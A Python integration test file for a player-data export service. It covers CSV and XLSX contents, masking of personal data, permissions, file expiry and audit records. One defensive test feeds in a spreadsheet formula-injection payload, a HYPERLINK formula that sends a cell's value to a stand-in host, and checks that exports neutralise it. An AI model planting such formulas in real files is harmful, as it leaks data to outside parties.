"""Exports: what is in the file, in which form, for whose eyes, for how long."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from uuid import UUID

import grpc
import openpyxl
import pytest
from daybook.players.v1 import activity_service_pb2
from daybook.players.v1 import jobs_service_pb2 as wire
from google.type import date_pb2
from openpyxl.utils.escape import unescape
from sqlalchemy import text

from kit import clock
from kit.errors import DomainError, Kind
from kit.ids import uuid7
from services.players.repository.jobs.columns import COLUMNS
from tests.players.building import deposit, placed, registered
from tests.players.integration.conftest import Door
from tests.players.jobs import ALL, PACE, Person, crowd, tagging, working

FACTS = {
    "username": "=ana",
    "first_name": "Ana Luísa",
    "last_name": 'Souza, "da" Luz',
    "email": "ana@mail.example",
    "phone": "+5511987654321",
    "country": "BR",
    "region": "SP",
    "language": "pt-BR",
    "registration_ip": "203.0.113.7",
    "date_of_birth": date_pb2.Date(year=1990, month=2, day=3),
    "document": {"type": "cpf", "number": "12345678909"},
    "affiliate_id": "@aff",
}
# Two instants around the end of summer time in Lisbon: the same clock, two offsets.
BEFORE = datetime(2024, 10, 27, 0, 30, tzinfo=UTC)
AFTER = datetime(2024, 10, 27, 1, 30, tzinfo=UTC)


@pytest.fixture(scope="module")
async def stage(door: Door):  # type: ignore[no-untyped-def]
    """An operator with two players of whom everything is known, and workers."""
    operator = await door.operator()
    batch = [
        registered("ana", BEFORE, **FACTS),
        deposit("ana", "d1", 12345),
        placed("ana", "b1", 1000, 250),
        registered("bo", AFTER, currency="JPY", first_name="bö\tB", username="<b>&\\_x0041_"),
        deposit("bo", "d2", 700, currency="JPY"),
    ]
    request = activity_service_pb2.RecordActivityRequest(operator_id=operator, activities=batch)
    answer = await door.as_platform(door.activity.RecordActivity, request)
    assert {result.outcome for result in answer.results} == {activity_service_pb2.ActivityResult.OUTCOME_RECORDED}
    async with working(door.database):
        yield Person(door, operator)


def lines(content: bytes) -> list[dict[str, str]]:
    """The rows of a CSV file."""
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


async def exported(person: Person, **asked: object) -> list[dict[str, str]]:
    """The rows of an export that has just been made."""
    job = await person.ended((await person.export(**asked)).job_id)
    assert (job.state, job.problem) == (wire.JOB_STATE_DONE, "")
    content = await person.file(job.job_id)
    assert job.size_bytes == len(content)
    return lines(content)


async def test_a_file_has_every_column_in_clear_for_who_may_see_it(stage: Person) -> None:
    bo, ana = await exported(stage, reveal=True, reason="a request of the court", timezone="Europe/Lisbon")
    assert list(ana) == [column.english for column in COLUMNS.values()]
    expected = {
        "External id": "ana",
        "Username": "'=ana",
        "First name": "Ana Luísa",
        "Last name": 'Souza, "da" Luz',
        "E-mail": "ana@mail.example",
        "Phone": "+5511987654321",
        "Date of birth": "1990-02-03",
        "Document number": "12345678909",
        "Registration IP": "203.0.113.7",
        "Affiliate": "'@aff",
        "Acquisition": "affiliate",
        "Status": "active",
        "KYC status": "none",
        "Online": "false",
        "Currency": "BRL",
        "Balance": "115.95",
        "Deposits": "123.45",
        "GGR": "7.50",
        "Bets": "1",
        "Registered": "2024-10-27T01:30:00+01:00",
    }
    assert {name: ana[name] for name in expected} == expected
    assert (bo["Balance"], bo["Currency"], bo["Registered"]) == ("700", "JPY", "2024-10-27T01:30:00+00:00")


async def test_without_reveal_personal_values_are_masked_as_everywhere(stage: Person) -> None:
    _, ana = await exported(stage)
    shown = {name: ana[name] for name in ("First name", "Last name", "E-mail", "Phone", "Document number")}
    assert shown == {
        "First name": "A•• L••••",
        "Last name": 'S••••• "••• L••',
        "E-mail": "a••@mail.example",
        "Phone": "••••••••••••21",
        "Document number": "•••••••••09",
    }
    assert (ana["Date of birth"], ana["Registration IP"]) == ("", "203.0.x.x")


async def test_columns_order_and_language_are_those_asked(stage: Person) -> None:
    rows = await exported(
        stage, columns=["currency", "external_id"], sort="PLAYER_SORT_REGISTERED_ASC", language="pt-BR"
    )
    assert rows == [{"Moeda": "BRL", "ID externo": "ana"}, {"Moeda": "JPY", "ID externo": "bo"}]


async def test_a_workbook_is_read_by_another_program_with_numbers_and_dates(stage: Person) -> None:
    columns = ["external_id", "username", "first_name", "date_of_birth", "registered_at", "balance", "bets", "online"]
    asked = {"format": wire.EXPORT_FORMAT_XLSX, "columns": columns, "timezone": "Europe/Lisbon", "reveal": True}
    job = await stage.ended((await stage.export(**asked, reason="audit")).job_id)
    content = await stage.file(job.job_id)
    assert job.file_name.startswith("players-test-20")
    assert (job.file_name[-5:], job.size_bytes) == (".xlsx", len(content))
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert book.sheetnames == ["Players"]
    heading, bo, ana = [[cell.value for cell in row] for row in book["Players"].iter_rows()]
    assert heading[:5] == ["External id", "Username", "First name", "Date of birth", "Registered (Europe/Lisbon)"]
    wall = datetime.fromisoformat("2024-10-27T01:30")
    assert ana == ["ana", "=ana", "Ana Luísa", datetime.fromisoformat("1990-02-03"), wall, 115.95, 1, False]
    bo[1] = unescape(bo[1])  # "_x0041_" would be a letter to Excel: it is written so that it is not
    assert bo == ["bo", "<b>&\\_x0041_", "bö\tB", None, wall, 700, 0, False]
    assert book["Players"]["F2"].number_format == "#,##0"
    assert book["Players"]["F3"].number_format == "#,##0.00"
    assert book["Players"].freeze_panes == "A2"


async def test_an_empty_list_makes_a_file_of_headings(stage: Person) -> None:
    assert await exported(stage, filter={"countries": ["XK"]}) == []
    asked = {"format": wire.EXPORT_FORMAT_XLSX, "filter": {"countries": ["XK"]}, "columns": ["username"]}
    job = await stage.ended((await stage.export(**asked)).job_id)
    book = openpyxl.load_workbook(io.BytesIO(await stage.file(job.job_id)))
    assert [[cell.value for cell in row] for row in book["Players"].iter_rows()] == [["Username"]]
    assert (job.total, job.total_approximate, job.done) == (0, False, 0)


@pytest.mark.parametrize("format", [wire.EXPORT_FORMAT_CSV, wire.EXPORT_FORMAT_XLSX])
async def test_many_slices_make_one_file_with_each_player_once(
    door: Door, monkeypatch: pytest.MonkeyPatch, format: wire.ExportFormat.ValueType
) -> None:
    operator = await door.operator()
    await crowd(door, operator, 95)
    for module in ("repository.jobs.choosing", "service.jobs.ahead", "service.jobs.exports"):
        monkeypatch.setattr(f"services.players.{module}.SLICE", 10)
    monkeypatch.setattr("services.players.service.jobs.exports.SHEET_ROWS", 30)
    monkeypatch.setattr("services.players.domain.workbook.SHEET_ROWS", 30)
    person = Person(door, operator)
    asked = {"format": format, "columns": ["external_id"], "sort": "PLAYER_SORT_EXTERNAL_ID_ASC"}
    async with working(door.database):
        job = await person.ended((await person.export(**asked)).job_id)
    content = await person.file(job.job_id)
    if format == wire.EXPORT_FORMAT_CSV:
        found = [row["External id"] for row in lines(content)]
    else:
        book = openpyxl.load_workbook(io.BytesIO(content))
        assert book.sheetnames == ["Players", "Players 2", "Players 3", "Players 4"]
        assert [sheet.max_row for sheet in book] == [31, 31, 31, 6]
        found = [str(row[0]) for sheet in book for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert found == [f"p{n:05}" for n in range(95)]
    assert (job.done, job.total) == (95, 95)


@pytest.mark.parametrize(
    ("asked", "field"),
    [
        ({"timezone": "Mars/Olympus"}, "timezone"),
        ({"timezone": "FOO+3"}, "timezone"),
        ({"columns": ["player_id", "password"]}, "columns"),
        ({"reveal": True, "reason": " "}, "reason"),
        ({"filter": {"balance": {"least": 1}}}, "filter.currency"),
        ({"sort": "PLAYER_SORT_GGR_DESC"}, "filter.currency"),
    ],
)
async def test_what_makes_no_sense_is_refused_naming_the_field(
    stage: Person, asked: dict[str, object], field: str
) -> None:
    with pytest.raises(DomainError) as refused:
        await stage.export(**asked)
    assert refused.value.kind is Kind.INVALID
    assert list(refused.value.fields) == [field]


async def test_clear_data_needs_its_own_permission(stage: Person) -> None:
    agent = Person(stage.door, stage.operator, ("players.read", "players.export"))
    with pytest.raises(DomainError) as refused:
        await agent.export(reveal=True, reason="curious")
    assert refused.value.kind is Kind.DENIED
    job = await agent.export()
    assert job.masked


async def test_only_who_started_it_fetches_the_file_and_others_cannot_tell_it_exists(stage: Person) -> None:
    door = stage.door
    job = await stage.ended((await stage.export()).job_id)
    colleague = Person(door, stage.operator)
    stranger = Person(door, await door.operator())
    reader = Person(door, stage.operator, ("players.read",))
    assert not (await colleague.job(job.job_id)).own
    for person, method in ((colleague, "DownloadExport"), (stranger, "GetJob"), (reader, "GetJob")):
        with pytest.raises((DomainError, grpc.aio.AioRpcError)) as refused:
            if method == "GetJob":
                await person.job(job.job_id)
            else:
                await person.file(job.job_id)
        assert "There is no such job." in str(refused.value)
    listing = wire.ListJobsRequest(operator_id=stage.operator)
    assert (await reader.call(door.jobs.ListJobs, listing)).jobs == []
    assert job.job_id in {one.job_id for one in (await colleague.call(door.jobs.ListJobs, listing)).jobs}


@pytest.mark.parametrize("separator", [",", ";", "\t"])
async def test_no_cell_begins_as_a_formula_however_a_spreadsheet_parts_the_lines(door: Door, separator: str) -> None:
    operator = await door.operator()
    formula = """=HYPERLINK("http://x.example"&A1)"""
    hostile = [f"x{cut}{formula}{cut}y" for cut in (";", ';"', "; ", "\t", "\n", "\r", "\n;", ",", '",')]
    batch = [registered(f"p{n}", username=text, first_name=text, last_name="a;b", affiliate_id=f"-{text}")
             for n, text in enumerate([formula, *hostile])]  # fmt: skip
    request = activity_service_pb2.RecordActivityRequest(operator_id=operator, activities=batch)
    await door.as_platform(door.activity.RecordActivity, request)
    async with working(door.database):
        person = Person(door, operator)
        job = await person.ended((await person.export(reveal=True, reason="a request of the court")).job_id)
        content = (await person.file(job.job_id)).decode("utf-8-sig")
    assert content.count("HYPERLINK") == 3 * len(batch)
    assert "a;b" in content  # nothing is changed without need
    # Quotes hold only where they begin a cell; elsewhere those of another separator are letters like any.
    quoting = csv.QUOTE_MINIMAL if separator == "," else csv.QUOTE_NONE
    rows = csv.reader(io.StringIO(content, newline=""), delimiter=separator, quoting=quoting)
    begins = [cell.lstrip('" ') for row in rows for cell in row]
    assert [cell for cell in begins if cell.startswith(("=", "@", "-", "+"))] == []


async def test_who_may_not_see_personal_data_any_more_does_not_fetch_it_in_clear(stage: Person) -> None:
    clear = await stage.ended((await stage.export(reveal=True, reason="a request of the court")).job_id)
    masked = await stage.ended((await stage.export()).job_id)
    less = tuple(one for one in ALL if one != "players.reveal")
    later = Person(stage.door, stage.operator, less, id=stage.id)
    with pytest.raises(grpc.aio.AioRpcError) as refused:
        await later.file(clear.job_id)
    assert refused.value.code() is grpc.StatusCode.PERMISSION_DENIED
    assert await later.file(masked.job_id)
    fetched = [one.target.id for one in await stage.told() if one.action == "export.download"]
    assert (clear.job_id in fetched, masked.job_id in fetched) == (False, True)
    assert await stage.file(clear.job_id)


async def test_a_file_expires_and_is_deleted(stage: Person) -> None:
    door = stage.door
    person = Person(door, stage.operator)
    job = await person.ended((await person.export()).job_id)
    assert job.expires_at.ToDatetime(UTC) - clock.now() > timedelta(hours=23)
    await person.file(job.job_id)
    async with door.database.unit_of_work() as uow:
        await uow.connection.execute(
            text("UPDATE jobs SET expires_at = now() - interval '1 second' WHERE job_id = :job"),
            {"job": UUID(job.job_id)},
        )
    with pytest.raises(grpc.aio.AioRpcError) as refused:
        await person.file(job.job_id)
    assert "has been deleted" in str(refused.value.details())
    async with working(door.database) as workers:
        await workers.tidy()
    assert (await person.job(job.job_id)).state == wire.JOB_STATE_EXPIRED
    assert await door.rows("SELECT 1 FROM job_parts WHERE job_id = :job", job=UUID(job.job_id)) == []


async def test_by_what_people_were_looked_for_is_not_kept_of_a_job_that_never_goes_on(stage: Person) -> None:
    door = stage.door
    person = Person(door, stage.operator)
    looked_for = {"email": "ana@mail.example"}

    async def kept(job_id: str) -> bytes:
        [row] = await door.rows("SELECT spec FROM jobs WHERE job_id = :job", job=UUID(job_id))
        return bytes(row.spec)

    done = await person.ended((await person.export(filter=looked_for)).job_id)
    assert lines(await person.file(done.job_id))[0]["External id"] == "ana"
    tagged = await person.ended((await person.bulk(tagging("seen"), 1, **looked_for)).job_id)
    assert (tagged.done, tagged.action.tag.add) == (1, ["seen"])
    asked = wire.StartExportRequest(operator_id=stage.operator, filter=looked_for).SerializeToString()
    failed = UUID((await person.export()).job_id)
    async with door.database.unit_of_work() as uow:
        await uow.connection.execute(
            text(
                "UPDATE jobs SET state = 5, spec = :spec, expires_at = now() - interval '1 second' WHERE job_id = :job"
            ),
            {"job": failed, "spec": asked},
        )
    async with working(door.database) as workers:
        await workers.tidy()
    for job_id in (done.job_id, tagged.job_id, str(failed)):
        assert b"mail.example" not in await kept(job_id)
    again = wire.ResumeJobRequest(operator_id=stage.operator, job_id=done.job_id)
    with pytest.raises(DomainError) as refused:
        await person.call(door.jobs.ResumeJob, again)
    assert refused.value.reason == "JOB_ENDED"


async def test_ended_jobs_are_forgotten_after_their_days(door: Door) -> None:
    person = Person(door, await door.operator())
    async with working(door.database):
        job = await person.ended((await person.export()).job_id)
    async with working(door.database, now=lambda: clock.now() + PACE.keep_ended + timedelta(days=1)) as workers:
        await workers.tidy()
    with pytest.raises(DomainError) as refused:
        await person.job(job.job_id)
    assert refused.value.reason == "JOB_NOT_FOUND"


async def test_a_repeated_request_starts_one_export(stage: Person) -> None:
    request = wire.StartExportRequest(
        operator_id=stage.operator, request_id=str(uuid7()), format=wire.EXPORT_FORMAT_CSV, timezone="UTC"
    )
    jobs = {(await stage.call(stage.door.jobs.StartExport, request)).job.job_id for _ in range(3)}
    assert len(jobs) == 1


async def test_every_step_is_announced_with_what_was_asked_and_no_personal_value(door: Door) -> None:
    operator = await door.operator()
    await crowd(door, operator, 3, country="BR")
    person = Person(door, operator)
    async with working(door.database):
        asked = {"countries": ["BR"], "email": "nobody@mail.example"}
        job = await person.ended((await person.export(filter=asked, reason="monthly report")).job_id)
    await person.file(job.job_id)
    await person.file(job.job_id)
    told = await person.told()
    assert [one.action for one in told] == ["export.start", "export.finish", "export.download", "export.download"]
    assert {one.reason for one in told} == {"monthly report"}
    assert {one.actor.name for one in told} == {"Test Staff"}
    assert all(one.company_id for one in told)
    changes = {change.path: change for change in told[0].changes}
    assert changes["filter.countries"].after.list_value.values[0].string_value == "BR"
    assert changes["filter.email"].sensitive
    assert not any("nobody@" in str(one) for one in told)
    finished = {change.path: change.after for change in told[1].changes}
    assert finished["state"].string_value == "done"
    assert finished["file"].string_value == job.file_name
